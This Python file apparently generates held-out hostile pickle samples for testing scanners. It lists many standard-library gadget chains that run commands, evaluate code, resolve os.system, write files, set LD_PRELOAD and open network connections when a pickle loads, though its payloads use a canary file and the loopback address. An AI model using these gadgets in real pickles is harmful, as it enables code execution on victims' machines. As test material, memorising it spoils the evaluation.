"""Hostile pickles of the sixth round: what a loaded pickle can call in the standard library."""

import marshal  # noqa: TID251 - written, never read
from collections.abc import Iterator
from typing import Any

import numpy as np

from held_out.sixth_asm import CANARY, CMD, EXPR, B, Loaded, framed, g, r, whole

NOWHERE = "127.0.0.1"
PORT = 9
Row = tuple[str, Any]


def direct() -> Iterator[Row]:
    """Calls that name the harm."""
    yield "subprocess.Popen", r("subprocess.Popen", ["touch", CANARY])
    yield "subprocess.run", r("subprocess.run", ["touch", CANARY])
    yield "subprocess.call", r("subprocess.call", ["touch", CANARY])
    yield "subprocess.check_call", r("subprocess.check_call", ["touch", CANARY])
    yield "subprocess.getoutput", r("subprocess.getoutput", CMD)
    yield "subprocess.getstatusoutput", r("subprocess.getstatusoutput", CMD)
    yield "os.spawnlp", r("os.spawnlp", 0, "touch", "touch", CANARY)
    yield "os.posix_spawnp", r("os.posix_spawnp", "touch", ["touch", CANARY], {})
    yield "os.execlp", r("os.execlp", "touch", "touch", CANARY)
    yield "posix.open", r("posix.open", CANARY, 0o102, 0o600)
    yield "os.rename", r("os.rename", "victim", CANARY)
    yield "os.symlink", r("os.symlink", "/etc/passwd", CANARY)
    yield "builtins.exec", r("builtins.exec", f"import os; os.system('{CMD}')")
    yield "builtins.eval_compiled", r("builtins.eval", r("builtins.compile", EXPR, "<a>", "eval"))
    yield "os.mkdir", r("os.mkdir", CANARY)


def processes() -> Iterator[Row]:
    """Functions that start a program."""
    yield "imaplib.IMAP4_stream", r("imaplib.IMAP4_stream", CMD)
    yield "_bootsubprocess.check_output", r("_bootsubprocess.check_output", ("touch", CANARY))
    yield "mailcap.findmatch", r("mailcap.findmatch", {"a/b": [{"test": CMD, "view": "x"}]}, "a/b")
    pipe = B(r("pipes.Template"), {"steps": [(CMD, "--")], "debugging": 0})
    yield "pipes.Template.copy", r("pipes:Template.copy", pipe, "/dev/null", "/dev/null")
    browser = r("webbrowser.GenericBrowser", ["touch", CANARY])
    yield "webbrowser.GenericBrowser.open", r("webbrowser:GenericBrowser.open", browser, "x")
    behind = r("webbrowser.BackgroundBrowser", ["touch", CANARY])
    yield "webbrowser.BackgroundBrowser.open", r("webbrowser:BackgroundBrowser.open", behind, "x")
    yield "pydoc.tempfilepager", r("pydoc.tempfilepager", "text", f"{CMD};")
    shell = r("asyncio.create_subprocess_shell", CMD)
    yield "asyncio.create_subprocess_shell", r("asyncio.run", shell)
    program = r("asyncio.subprocess.create_subprocess_exec", "touch", CANARY)
    yield "asyncio.subprocess.exec", r("asyncio.runners.run", program)
    yield "ensurepip._run_pip", r("ensurepip._run_pip", ["config", "set", "global.index-url", "x"])
    yield (
        "test.run_python_until_end",
        r("test.support.script_helper.run_python_until_end", "-c", EXPR),
    )
    yield "test.spawn_python", r("test.support.script_helper.spawn_python", "-c", EXPR)
    yield "_testcapi.run_in_subinterp", r("_testcapi.run_in_subinterp", EXPR)
    inner = r("_xxsubinterpreters.create")
    yield "_xxsubinterpreters.run_string", r("_xxsubinterpreters.run_string", inner, EXPR)
    tcl = r("_tkinter.create", None, "a", "Tk", 0, 1, 0)
    yield "tkinter.Tcl.eval", r(r("operator.methodcaller", "eval", f"exec {CMD}"), tcl)
    yield "distutils.dir_util.mkpath", r("distutils.dir_util.mkpath", CANARY)
    libc = r("ctypes.CDLL", None)
    yield "ctypes.CDLL.__getitem__", r(r("ctypes:CDLL.__getitem__", libc, "system"), CMD.encode())
    yield "ctypes.cdll.LoadLibrary", r("ctypes:cdll.LoadLibrary", f"./{CANARY}.so")
    yield (
        "ctypes.pydll.PyRun",
        r(
            r("ctypes:PyDLL.__getattr__", r("ctypes.PyDLL", None), "PyRun_SimpleString"),
            EXPR.encode(),
        ),
    )
    yield (
        "multiprocessing.forkserver",
        r(
            "multiprocessing.forkserver:ForkServer.ensure_running",
            r("multiprocessing.forkserver.ForkServer"),
        ),
    )


def evaluators() -> Iterator[Row]:
    """Functions that run text or code."""
    yield "idlelib.calltip.get_entity", r("idlelib.calltip.get_entity", EXPR)
    completer = r("idlelib.autocomplete.AutoComplete")
    yield (
        "idlelib.AutoComplete.get_entity",
        r("idlelib.autocomplete:AutoComplete.get_entity", completer, EXPR),
    )
    yield "trace.Trace.run", r("trace:Trace.run", r("trace.Trace", 0, 0), EXPR)
    yield "trace.Trace.runctx", r("trace:Trace.runctx", r("trace.Trace", 0, 0), EXPR, {}, {})
    yield "bdb.Bdb.runeval", r("bdb:Bdb.runeval", r("bdb.Bdb"), EXPR)
    yield "profile.runctx", r("profile.runctx", EXPR, {}, {})
    yield "cProfile.Profile.run", r("cProfile:Profile.run", r("cProfile.Profile"), EXPR)
    yield "timeit.repeat", r("timeit.repeat", EXPR, "pass", g("time.perf_counter"), 1, 1)
    yield "timeit.Timer.timeit", r("timeit:Timer.timeit", r("timeit.Timer", "pass", EXPR), 1)
    console = r("code.InteractiveConsole")
    yield "code.InteractiveConsole.push", r("code:InteractiveConsole.push", console, EXPR)
    yield (
        "code.InteractiveInterpreter.runsource",
        r("code:InteractiveInterpreter.runsource", r("code.InteractiveInterpreter"), EXPR),
    )
    yield "runpy._run_module_code", r("runpy._run_module_code", EXPR, {}, "a")
    yield "dataclasses._create_fn", r("dataclasses._create_fn", "f", [f"a={EXPR}"], ["pass"])
    forward = r("typing.ForwardRef", EXPR)
    yield (
        "typing.ForwardRef._evaluate",
        r("typing:ForwardRef._evaluate", forward, {}, {}, r("builtins.frozenset")),
    )
    code = marshal.dumps(compile(f"import os\nos.system('{CMD}')", "a", "exec"))
    made = r("types.FunctionType", r("marshal.loads", code), {})
    yield "marshal.loads", r(made)
    yield "types.LambdaType", r(r("types.LambdaType", r("marshal.loads", code), {"a": 1}))
    yield (
        "doctest.DocTestRunner.run",
        r(
            "doctest:DocTestRunner.run",
            r("doctest.DocTestRunner"),
            r(
                "doctest:DocTestParser.get_doctest",
                r("doctest.DocTestParser"),
                f">>> {EXPR}\n",
                {},
                "a",
                "b",
                0,
            ),
        ),
    )
    yield (
        "xml.etree.ElementTree.write",
        r(
            "xml.etree.ElementTree:ElementTree.write",
            r("xml.etree.ElementTree.ElementTree", r("xml.etree.ElementTree.Element", "a")),
            CANARY,
        ),
    )
    yield (
        "builtins.type.__init_subclass__",
        r(
            "builtins.type",
            "A",
            (
                r(
                    "builtins.type",
                    "M",
                    (),
                    {
                        "__init_subclass__": r(
                            "types.LambdaType",
                            r(
                                "marshal.loads",
                                marshal.dumps(
                                    compile(f"(lambda *a, **k: {EXPR})", "a", "eval").co_consts[0]
                                ),
                            ),
                            {},
                        )
                    },
                ),
            ),
            {},
        ),
    )


def resolvers() -> Iterator[Row]:
    """Functions that look a name up, and what is done with what they found."""
    yield "pydoc.locate", r(r("pydoc.locate", "os.system"), CMD)
    yield "logging.config._resolve", r(r("logging.config._resolve", "os.system"), CMD)
    base = r("logging.config.BaseConfigurator", {})
    yield (
        "logging.config.BaseConfigurator.resolve",
        r(r("logging.config:BaseConfigurator.resolve", base, "os.system"), CMD),
    )
    entry = r("importlib.metadata.EntryPoint", "a", "os:system", "b")
    yield (
        "importlib.metadata.EntryPoint.load",
        r(r("importlib.metadata:EntryPoint.load", entry), CMD),
    )
    module = r("pydoc.locate", "os")
    yield (
        "xmlrpc.server.resolve_dotted_attribute",
        r(r("xmlrpc.server.resolve_dotted_attribute", module, "system"), CMD),
    )
    yield (
        "inspect.getattr_static",
        r(
            r(
                "inspect.getattr_static",
                r("test.support.import_helper.import_module", "posix"),
                "system",
            ),
            CMD,
        ),
    )
    yield (
        "importlib._bootstrap._gcd_import",
        r(r("builtins.getattr", r("importlib._bootstrap._gcd_import", "posix"), "system"), CMD),
    )
    yield (
        "importlib.__import__",
        r(r(r("operator.attrgetter", "system"), r("importlib.__import__", "os")), CMD),
    )
    yield "pkgutil.resolve_name", r(r("pkgutil.resolve_name", "posix:system"), CMD)
    yield (
        "operator.itemgetter",
        r(r(r("operator.itemgetter", "eval"), g("builtins:__dict__")), EXPR),
    )
    yield "types.SimpleNamespace", r(r("builtins:dict.get", g("os:__dict__"), "system"), CMD)


def callers() -> Iterator[Row]:
    """Functions that call another one."""
    ev = g("builtins.eval")
    yield "operator.call", r("operator.call", ev, EXPR)
    yield "types.MethodType", r(r("types.MethodType", ev, EXPR))
    yield "functools.partial", r(r("functools.partial", ev, EXPR))
    yield "heapq.nsmallest", r("heapq.nsmallest", 1, [EXPR], ev)
    yield "itertools.starmap", r("collections.deque", r("itertools.starmap", ev, [(EXPR,)]))
    yield "builtins.map", r("builtins.tuple", r("builtins.map", ev, [EXPR]))
    yield "builtins.filter", r("builtins.set", r("builtins.filter", ev, [EXPR]))
    yield "itertools.groupby", r("builtins.list", r("itertools.groupby", [EXPR], ev))
    yield "threading.Timer.run", r("threading:Timer.run", r("threading.Timer", 0.0, ev, (EXPR,)))
    yield (
        "threading.Thread.start",
        r("threading:Thread.start", r("threading.Thread", None, ev, "a", (EXPR,))),
    )
    pool = r("concurrent.futures.ThreadPoolExecutor", 1)
    yield (
        "ThreadPoolExecutor.submit",
        r("concurrent.futures.thread:ThreadPoolExecutor.submit", pool, ev, EXPR),
    )
    yield "multiprocessing.pool.ThreadPool", r("multiprocessing.pool.ThreadPool", 1, ev, (EXPR,))
    yield "atexit.register", r("atexit.register", ev, EXPR)
    yield (
        "contextlib.ExitStack",
        r(
            "contextlib:ExitStack.close",
            B(
                r("contextlib.ExitStack"),
                {
                    "_exit_callbacks": r(
                        "collections.deque",
                        [(True, r("contextlib:ExitStack._create_cb_wrapper", ev, EXPR))],
                    )
                },
            ),
        ),
    )
    yield "distutils.util.execute", r("distutils.util.execute", ev, (EXPR,))
    yield "bdb.Bdb.runcall", r("bdb:Bdb.runcall", r("bdb.Bdb"), ev, EXPR)


def files() -> Iterator[Row]:
    """Functions that write where the pickle says."""
    yield "pathlib.Path.write_text", r("pathlib:Path.write_text", r("pathlib.Path", CANARY), "x")
    yield "pathlib.Path.touch", r("pathlib:Path.touch", r("pathlib.PosixPath", CANARY))
    yield "codecs.open", r("codecs.open", CANARY, "w")
    yield "gzip.GzipFile", r("gzip.GzipFile", CANARY, "wb")
    yield "lzma.open", r("lzma.open", CANARY, "wb")
    yield "zipfile.ZipFile", r("zipfile.ZipFile", CANARY, "w")
    yield "argparse.FileType", r(r("argparse.FileType", "w"), CANARY)
    yield "mailbox.Maildir", r("mailbox.Maildir", CANARY)
    yield "logging.handlers.WatchedFileHandler", r("logging.handlers.WatchedFileHandler", CANARY)
    yield "uu.encode", r("uu.encode", "/etc/hostname", CANARY)
    yield "wave.open", r("wave.open", CANARY, "wb")
    yield "shutil.move", r("shutil.move", "victim", CANARY)
    yield "shutil.make_archive", r("shutil.make_archive", CANARY, "tar", ".")
    yield "sqlite3.Connection", r("sqlite3.Connection", CANARY)
    yield (
        "distutils.file_util.copy_file",
        r("distutils.file_util.copy_file", "/etc/hostname", CANARY),
    )
    yield "tempfile.mkdtemp", r("tempfile.mkdtemp", "", CANARY, ".")
    yield "dbm.dumb.open", r("dbm.dumb.open", CANARY, "n")
    yield "zipapp.create_archive", r("zipapp.create_archive", r("pathlib.Path", "victims"), CANARY)
    yield "sys.path.insert", r("sys:path.insert", 0, f"/var/{CANARY}")
    yield "os.environ.update", r("os:environ.update", {"LD_PRELOAD": f"/var/{CANARY}.so"})


def network() -> Iterator[Row]:
    """Functions that call out, or listen."""
    where = (NOWHERE, PORT)
    yield (
        "urllib.request.urlretrieve",
        r("urllib.request.urlretrieve", f"http://{NOWHERE}:{PORT}/a", CANARY),
    )
    yield "smtplib.SMTP", r("smtplib.SMTP", *where)
    yield "poplib.POP3", r("poplib.POP3", *where)
    yield "imaplib.IMAP4", r("imaplib.IMAP4", *where)
    yield "socket.create_connection", r("socket.create_connection", where)
    yield "socket.gethostbyname", r("socket.gethostbyname", "secret.sixth.invalid")
    yield "multiprocessing.connection.Client", r("multiprocessing.connection.Client", where)
    yield (
        "xml.sax.parse",
        r("xml.sax.parse", f"http://{NOWHERE}:{PORT}/a", r("xml.sax.handler.ContentHandler")),
    )
    yield "logging.handlers.SysLogHandler", r("logging.handlers.SysLogHandler", where)
    yield (
        "http.client.HTTPConnection.request",
        r(
            "http.client:HTTPConnection.request",
            r("http.client.HTTPConnection", NOWHERE, PORT),
            "GET",
            "/",
        ),
    )
    yield (
        "urllib.request.URLopener.open",
        r(
            "urllib.request:URLopener.open",
            r("urllib.request.URLopener"),
            f"http://{NOWHERE}:{PORT}/a",
        ),
    )
    yield (
        "wsgiref.simple_server",
        r("wsgiref.simple_server.make_server", NOWHERE, 0, g("builtins.len")),
    )
    yield (
        "socketserver.TCPServer",
        r("socketserver.TCPServer", (NOWHERE, 0), g("socketserver.BaseRequestHandler")),
    )


def encoded(rng: np.random.Generator, rows: Iterator[Row], category: str) -> Iterator[Loaded]:
    """Write each gadget once, in a protocol that the seed draws, some of them in a frame."""
    for name, value in rows:
        p = int(rng.choice([0, 2, 3, 4, 4, 5]))
        data = whole(value, p=p)
        if p >= 4 and rng.random() < 0.5:
            data = framed(data)
        file = f"{name}.p{p}.pkl"
        yield Loaded(category, file, {file: data})


def samples(rng: np.random.Generator) -> Iterator[Loaded]:
    yield from encoded(rng, direct(), "P01 direct")
    for rows in (processes(), evaluators(), resolvers(), callers(), files(), network()):
        yield from encoded(rng, rows, "P02 stdlib gadget")
